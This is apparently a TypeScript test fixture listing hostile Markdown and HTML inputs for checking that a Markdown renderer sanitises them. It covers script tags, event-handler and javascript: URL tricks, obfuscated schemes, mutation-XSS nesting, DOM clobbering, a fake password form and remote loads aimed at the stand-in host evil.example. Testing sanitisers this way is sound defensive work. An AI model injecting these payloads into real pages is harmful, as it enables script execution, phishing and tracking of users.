/** The host that all hostile parts try to contact. */
export const EVIL = 'https://evil.example'

/** Ways to run a script or load a resource in Markdown. */
export const HOSTILE: readonly string[] = [
  '<script>window.pwned = 1</script>',
  `<script src="${EVIL}/x.js"></script>`,
  '<scr<script>ipt>window.pwned = 1</scr</script>ipt>',
  '<img src=x onerror="window.pwned = 1">',
  `<img src="${EVIL}/x.png" onload="window.pwned = 1">`,
  '<img src="javascript:window.pwned=1">',
  `<img srcset="${EVIL}/x.png 1x" src="${EVIL}/y.png">`,
  `<picture><source srcset="${EVIL}/dark.png"><img src="${EVIL}/light.png"></picture>`,
  `![image](${EVIL}/x.png)`,
  '![image](//evil.example/x.png)',
  '![image](\\\\evil.example\\x.png)',
  '![image](javascript:window.pwned=1)',
  '![image](data:image/svg+xml,<svg onload=window.pwned=1>)',
  '<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg>',
  `<svg><image href="${EVIL}/x.png"/><use href="${EVIL}/x.svg#x"/></svg>`,
  '<math href="javascript:window.pwned=1">click</math>',
  `<iframe src="${EVIL}"></iframe>`,
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<iframe src="javascript:parent.pwned = 1"></iframe>',
  `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/x.swf">`,
  `<video src="${EVIL}/x.mp4" autoplay onerror="window.pwned = 1"><source onerror="window.pwned = 1" src=x></video>`,
  `<audio src="${EVIL}/x.mp3" autoplay></audio>`,
  `<style>@import "${EVIL}/x.css"; body { background: url(${EVIL}/x.png) }</style>`,
  `<p style="background: url(${EVIL}/x.png)">styled</p>`,
  `<div style="position: fixed; inset: 0">over everything</div>`,
  `<link rel="stylesheet" href="${EVIL}/x.css"><link rel="prefetch" href="${EVIL}/p">`,
  `<meta http-equiv="refresh" content="0; url=${EVIL}">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}"><input name="password" autofocus onfocus="window.pwned = 1"><button>Log in</button></form>`,
  '<input type="image" src=x onerror="window.pwned = 1">',
  '<details open ontoggle="window.pwned = 1"><summary>open</summary></details>',
  `<table background="${EVIL}/x.png"><tr><td background="${EVIL}/x.png">cell</td></tr></table>`,
  `<body onload="window.pwned = 1" background="${EVIL}/x.png">`,
  '<a href="javascript:window.pwned=1">one</a>',
  '<a href="JaVaScRiPt&colon;window.pwned=1">two</a>',
  '<a href="java&#10;script:window.pwned=1">three</a>',
  '<a href=" &#14; javascript:window.pwned=1">four</a>',
  '<a href="data:text/html,<script>window.pwned=1</script>">five</a>',
  '<a href="vbscript:window.pwned=1">six</a>',
  '[seven](javascript:window.pwned=1)',
  '[eight](<javascript:window.pwned=1>)',
  '[nine](JAVASCRIPT:window.pwned=1 "title")',
  '[ten][ref]\n\n[ref]: javascript:window.pwned=1',
  '<javascript:window.pwned=1>',
  `<a href="${EVIL}" ping="${EVIL}/ping">pinging</a>`,
  '[title](https://example.com "x\\" onmouseover=\\"window.pwned=1")',
  '<a href="https://example.com" id="location" name="body">clobber</a><img name="cookie">',
  '```html\n</code></pre><script>window.pwned = 1</script>\n```',
  '`</code><script>window.pwned = 1</script>`',
  '[^1]\n\n[^1]: <img src=x onerror="window.pwned = 1">',
  '| a |\n|---|\n| <img src=x onerror="window.pwned = 1"> |',
  '<!--><script>window.pwned = 1</script>-->',
  '<!-- --!><script>window.pwned = 1</script>',
  '<![CDATA[<script>window.pwned = 1</script>]]>',
  '<?php echo "<script>window.pwned = 1</script>" ?>',
  '</div></section></main></body></html><script>window.pwned = 1</script>',
  '<template><script>window.pwned = 1</script></template>',
  '<xmp><script>window.pwned = 1</script></xmp>',
  '<textarea></textarea><script>window.pwned = 1</script></textarea>',
  '<custom-element onclick="window.pwned = 1" is="x">custom</custom-element>',
  '<marquee onstart="window.pwned = 1">moving</marquee>',
  '<isindex type=image src=x onerror="window.pwned = 1">',
  `<frameset><frame src="${EVIL}"></frameset>`
]

/** Unclosed elements, which could swallow the text after them. */
export const UNCLOSED: readonly string[] = [
  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 1">',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<plaintext><script>window.pwned = 1</script>',
  '<textarea><script>window.pwned = 1</script>',
  '<title><img src=x onerror="window.pwned = 1">',
  '<select><option><img src=x onerror="window.pwned = 1">',
  '<style><script>window.pwned = 1</script>',
  '<a href="javascript:window.pwned=1',
  '<!-- <script>window.pwned = 1</script>'
]

/** Harmless HTML without an end, which could change or hide the text after it. */
export const BROKEN: readonly string[] = [
  ...[
    'a href="https://example.com"',
    'b',
    'code',
    's',
    'sub',
    'h2',
    'div',
    'table',
    'blockquote',
    'ul'
  ].map((tag) => `<${tag}>open`),
  ...['svg', 'video', 'audio', 'object', 'iframe', 'template', 'noscript', 'noembed', 'xmp'].map(
    (tag) => `<${tag}>open`
  ),
  '<table><tr><td>',
  '<details hidden=',
  '<p title="',
  '<div class="a',
  "<img alt='",
  '<?php echo 1;',
  '<![CDATA[ x',
  '<!DOCTYPE html',
  '<!-- a -- b',
  '<pre>open',
  '<select>',
  '</p></div></table></body></html>'
]

/** All parts in one text, with a readable end. */
export const HOSTILE_README = `# Hostile\n\n${HOSTILE.join('\n\n')}\n\nThe end.\n`
